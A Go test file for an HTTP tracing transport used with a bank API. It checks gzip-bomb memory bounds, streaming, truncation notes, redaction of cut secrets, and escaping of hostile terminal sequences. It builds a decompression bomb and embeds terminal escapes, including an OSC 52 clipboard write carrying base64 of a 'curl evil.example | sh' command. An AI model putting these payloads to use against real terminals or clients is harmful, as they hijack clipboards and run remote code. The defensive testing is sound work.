package httplog

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

// bombHead and bombUnit are the text a gzip bomb inflates to: a
// transactions list that never ends, as a hostile bank would send it.
const (
	bombHead = `{"transactions":{"booked":[`
	bombUnit = `{"transactionId":"t-0000","bookingDate":"2026-10-01","transactionAmount":{"currency":"EUR","amount":"-1.00"}},`
)

// gzipBomb is a gzip stream that inflates to bombHead and then units up to
// inflated bytes: a member with the head, then one member of 1 MiB of
// units, repeated (several members are one gzip body, RFC 1952 §2.2). It
// also returns the SHA-256 of the inflated content.
func gzipBomb(t testing.TB, inflated int) (gz []byte, sum [32]byte) {
	t.Helper()
	const chunk = 1 << 20
	member := func(plain []byte) []byte {
		var b bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		zw.Write(plain)
		zw.Close()
		return b.Bytes()
	}
	plain := bytes.Repeat([]byte(bombUnit), chunk/len(bombUnit)+1)[:chunk]
	one := member(plain)
	h := sha256.New()
	out := bytes.NewBuffer(member([]byte(bombHead)))
	h.Write([]byte(bombHead))
	for range (inflated - len(bombHead)) / chunk {
		out.Write(one)
		h.Write(plain)
	}
	copy(sum[:], h.Sum(nil))
	return out.Bytes(), sum
}

// allocated runs f and returns the bytes the whole process allocated
// meanwhile (the test's, the server's and the trace's).
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// A hostile bank answers with a small gzip body that inflates to 64 MiB.
// Go's transport asked for gzip itself (the caller did not), so it inflates
// the answer on the fly and the trace sees the inflated stream. The caller
// reads all of it, byte for byte; the trace keeps a 64 KiB prefix, so the
// memory the exchange takes stays far below the inflated size.
func TestGzipBombThroughTransparentDecoding(t *testing.T) {
	const inflated = 64<<20 + len(bombHead)
	gz, sum := gzipBomb(t, inflated)
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Accept-Encoding") != "gzip" {
			t.Errorf("Accept-Encoding %q: the test needs Go's transport to ask for gzip", r.Header.Get("Accept-Encoding"))
		}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(gz)
	}))
	defer srv.Close()
	var out safeBuffer
	tr := &Transport{Base: srv.Client().Transport, Out: &out}
	var got [32]byte
	var n int64
	alloc := allocated(func() {
		req, _ := http.NewRequest("GET", srv.URL+"/v1/accounts/a/transactions", nil)
		resp, err := tr.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		h := sha256.New()
		n, err = io.Copy(h, resp.Body)
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		copy(got[:], h.Sum(nil))
	})
	if n != int64(inflated) || got != sum {
		t.Errorf("caller read %d bytes (sha256 match %v), want all %d", n, got == sum, inflated)
	}
	trace := out.String()
	body := traceBody(trace, "< ")
	if len(body) > MaxBody+1024 {
		t.Errorf("the trace shows %d bytes of body, want at most %d", len(body), MaxBody)
	}
	note := regexp.MustCompile(fmt.Sprintf(`\n< … (\d+) more bytes not shown \(the body is %d bytes, gzip-decoded by the transport\)\n\n$`, inflated))
	if m := note.FindStringSubmatch(trace); m == nil {
		t.Errorf("no honest size note; trace ends %q", tail(trace, 300))
	} else if more, _ := strconv.Atoi(m[1]); more < inflated-MaxBody || more >= inflated {
		t.Errorf("%d more bytes: the trace shows more than %d or nothing", more, MaxBody)
	}
	if !strings.Contains(trace, `"transactionId": "t-0000"`) {
		t.Errorf("the decoded prefix is not shown; trace starts %q", head(trace, 600))
	}
	// Reading the inflated 64 MiB through a 32 KiB buffer allocates little;
	// keeping it for the trace allocates all of it, and more.
	if alloc > uint64(inflated)/8 {
		t.Errorf("the exchange allocated %d MiB for a %d MiB answer: the trace keeps the body", alloc>>20, inflated>>20)
	}
	t.Logf("allocated %d KiB for a %d MiB answer", alloc>>10, inflated>>20)
}

// When the caller asked for gzip itself, the body stays compressed for it
// (byte-identical); the trace inflates a bounded prefix to show it, and a
// bomb's 64 KiB of gzip, which could inflate to 64 MiB, does not allocate
// that.
func TestGzipBombShownDecodedWithinBound(t *testing.T) {
	gz, _ := gzipBomb(t, 256<<20+len(bombHead))
	base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
		return &http.Response{StatusCode: 200, Status: "200 OK", Request: r, ContentLength: int64(len(gz)),
			Header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}},
			Body:   io.NopCloser(bytes.NewReader(gz))}, nil
	})
	var out bytes.Buffer
	var read []byte
	alloc := allocated(func() {
		req, _ := http.NewRequest("GET", "https://bank.example/v1/accounts/a/transactions", nil)
		req.Header.Set("Accept-Encoding", "gzip")
		resp, err := (&Transport{Base: base, Out: &out}).RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		read, _ = io.ReadAll(resp.Body)
		resp.Body.Close()
	})
	if !bytes.Equal(read, gz) {
		t.Fatalf("caller read %d bytes, not the %d gzip bytes sent", len(read), len(gz))
	}
	trace := out.String()
	if body := traceBody(trace, "< "); len(body) > MaxBody+1024 {
		t.Errorf("the trace shows %d bytes of body", len(body))
	}
	for _, w := range []string{`"transactionId": "t-0000"`, fmt.Sprintf("(gzip, %d bytes on the wire; the trace decodes at most 64 KiB)", len(gz))} {
		if !strings.Contains(trace, w) {
			t.Errorf("trace lacks %q; it ends %q", w, tail(trace, 300))
		}
	}
	// The caller's copy of the gzip body is most of what is allocated.
	if limit := uint64(len(gz))*4 + 4<<20; alloc > limit {
		t.Errorf("allocated %d KiB (limit %d KiB) for a %d KiB gzip body", alloc>>10, limit>>10, len(gz)>>10)
	}
}

// A bank that streams: the trace must not hold the answer back. The caller
// gets the first part while the bank still holds the rest, and the trace
// is written when the body ends.
func TestResponseStreamsThroughTrace(t *testing.T) {
	pr, pw := io.Pipe()
	base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
		return &http.Response{StatusCode: 200, Status: "200 OK", Request: r, ContentLength: -1,
			Header: http.Header{"Content-Type": {"text/plain"}}, Body: pr}, nil
	})
	var out safeBuffer
	got := make(chan string, 1)
	go func() {
		req, _ := http.NewRequest("GET", "https://bank.example/stream", nil)
		resp, err := (&Transport{Base: base, Out: &out}).RoundTrip(req)
		if err != nil {
			got <- "error: " + err.Error()
			return
		}
		defer resp.Body.Close()
		buf := make([]byte, 64)
		n, _ := resp.Body.Read(buf)
		got <- string(buf[:n])
		rest, _ := io.ReadAll(resp.Body)
		got <- string(rest)
	}()
	if _, err := pw.Write([]byte("first part\n")); err != nil {
		t.Fatal(err)
	}
	select {
	case s := <-got:
		if s != "first part\n" {
			t.Fatalf("caller read %q", s)
		}
	case <-time.After(10 * time.Second): // a deadlock guard, not a timing
		t.Fatal("the caller did not get the first part while the bank held the rest: the trace buffers the body")
	}
	if strings.Contains(out.String(), "first part") {
		t.Error("trace written before the body ended")
	}
	pw.Write([]byte("second part\n"))
	pw.Close()
	if s := <-got; s != "second part\n" {
		t.Errorf("caller read %q", s)
	}
	if !strings.Contains(out.String(), "< first part\n< second part\n\n") {
		t.Errorf("trace:\n%s", out.String())
	}
}

// A body closed before its end (the client reads at most 16 MiB) gets a
// note that says what is known: how much was read, the length only when
// the bank gave one.
func TestClosedEarlySaysWhatIsKnown(t *testing.T) {
	big := strings.Repeat("line of text\n", MaxBody/13*3)
	for _, c := range []struct {
		length int64
		want   string
	}{
		{-1, fmt.Sprintf("< … the reader stopped after %d bytes; the rest, if any, is not shown (no Content-Length: the length is unknown)", MaxBody*2)},
		{int64(len(big)), fmt.Sprintf("< … %d more bytes not shown (the body is %d bytes by its Content-Length; the reader closed it after %d)", len(big)-MaxBody, len(big), MaxBody*2)},
	} {
		base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
			return &http.Response{StatusCode: 200, Status: "200 OK", Request: r, ContentLength: c.length,
				Header: http.Header{"Content-Type": {"text/plain"}}, Body: io.NopCloser(strings.NewReader(big))}, nil
		})
		var out bytes.Buffer
		req, _ := http.NewRequest("GET", "https://bank.example/x", nil)
		resp, err := (&Transport{Base: base, Out: &out}).RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.CopyN(io.Discard, resp.Body, MaxBody*2); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if !strings.Contains(out.String(), c.want+"\n") {
			t.Errorf("length %d: trace lacks %q; ends %q", c.length, c.want, tail(out.String(), 300))
		}
	}
}

// A JSON body cut at 64 KiB inside a secret's value: the prefix does not
// parse, and the part of the secret before the cut must still be hidden,
// whether the body is pretty-printed as far as it goes or, when it is not
// JSON before the cut either, shown by the loose-JSON fallback.
func TestCutPrefixHidesSecret(t *testing.T) {
	const secret = "AT-CUT-SECRET-0123456789abcdefghijklmnopqrstuvwxyz"
	for _, lead := range []string{`{"pad":"`, `{"broken": oops, "pad":"`} {
		pad := strings.Repeat("p", MaxBody-len(lead)-len(`","access_token":"`)-10)
		body := lead + pad + `","access_token":"` + secret + `","n":1}`
		base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
			return &http.Response{StatusCode: 200, Status: "200 OK", Request: r, ContentLength: int64(len(body)),
				Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(body))}, nil
		})
		var out bytes.Buffer
		req, _ := http.NewRequest("GET", "https://bank.example/token", nil)
		_, read := do(t, &Transport{Base: base, Out: &out}, req)
		if string(read) != body {
			t.Fatal("caller did not read the body whole")
		}
		trace := out.String()
		if strings.Contains(trace, secret[:10]) {
			t.Errorf("lead %q: the cut secret's first part is shown: …%q", lead, tail(trace, 300))
		}
		if !strings.Contains(trace, "more bytes not shown") {
			t.Errorf("lead %q: no truncation note; ends %q", lead, tail(trace, 300))
		}
	}
}

// LooseJSON is also what a cut prefix goes through: a value cut before its
// closing quote is still a secret.
func TestLooseJSONHidesUnterminatedSecret(t *testing.T) {
	for _, in := range []string{
		`{"x":1,"access_token":"AT-PARTIAL-SECRET`,
		`{"x":1,"refresh_token" : "RT-PARTIAL\"SECRET`,
		`{"x":1,"code":"CODE-PARTIAL`,
	} {
		got := Redactor{}.LooseJSON(in)
		if strings.Contains(got, "PARTIAL") {
			t.Errorf("LooseJSON(%q) = %q", in, got)
		}
		if !strings.Contains(got, "[redacted sha256:") {
			t.Errorf("LooseJSON(%q) = %q: no fingerprint", in, got)
		}
	}
	if got := (Redactor{}).LooseJSON(`{"code":"FORMAT_ERR`); got != `{"code":"FORMAT_ERR` {
		// A cut message code stays what it looks like: not a secret by shape.
		t.Logf("cut message code: %q", got)
	}
}

// A hostile bank writes terminal escapes into its status text, headers and
// body: the trace shows them as visible escapes, never as the raw bytes
// (ESC, BEL ending an OSC 52 clipboard write, CR that overprints a line).
func TestHostileAnswerEscaped(t *testing.T) {
	const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	for _, ct := range []string{"text/plain", "application/json", "application/problem+json", ""} {
		body := "fine\r\n\x1b[2J\x1b[1;1H✓ all good\rOVERPRINT " + osc52 + " \u202eevil\u202c\n\u009b31m"
		if strings.Contains(ct, "json") {
			body = `{"tppMessages":[{"code":"FORMAT_ERROR","text":"` + "\u202e" + `x"}], "raw": "\u001b[2J"}`
		}
		base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
			return &http.Response{StatusCode: 400, Status: "400 Bad\x1b[31m Request\r", Request: r,
				Header: http.Header{"Content-Type": {ct}, "X-Evil": {"a\x1b]0;title\x07b\rc"}, "X-Clip\x1b": {osc52}},
				Body:   io.NopCloser(strings.NewReader(body))}, nil
		})
		var out bytes.Buffer
		req, _ := http.NewRequest("GET", "https://bank.example/v1/accounts?q=a%1Bb", nil)
		req.Header.Set("PSU-User-Agent", "ua\x1b[5m")
		do(t, &Transport{Base: base, Out: &out}, req)
		trace := out.String()
		for _, c := range []string{"\x1b", "\x07", "\r", "\u009b", "\u202e", "\u202c"} {
			if strings.Contains(trace, c) {
				t.Errorf("Content-Type %q: the trace holds the raw %q:\n%s", ct, c, trace)
			}
		}
		want := []string{`< 400 Bad\x1b[31m Request\r (`, `< X-Evil: a\x1b]0;title\x07b\rc`, `< X-Clip\x1b: \x1b]52;c;`, `> Psu-User-Agent: ua\x1b[5m`}
		if strings.Contains(ct, "json") {
			want = append(want, `\u202ex`)
		} else {
			want = append(want, `< fine`+"\n", `< \x1b[2J\x1b[1;1H✓ all good\rOVERPRINT \x1b]52;c;`, `\u202eevil\u202c`, `< \u009b31m`)
		}
		for _, w := range want {
			if !strings.Contains(trace, w) {
				t.Errorf("Content-Type %q: trace lacks %q:\n%s", ct, w, trace)
			}
		}
	}
}

// traceBody is the text of the lines that start with prefix, without it.
func traceBody(trace, prefix string) string {
	var b strings.Builder
	for l := range strings.SplitSeq(trace, "\n") {
		if s, ok := strings.CutPrefix(l, prefix); ok {
			b.WriteString(s + "\n")
		}
	}
	return b.String()
}

func tail(s string, n int) string { return s[max(0, len(s)-n):] }
func head(s string, n int) string { return s[:min(len(s), n)] }
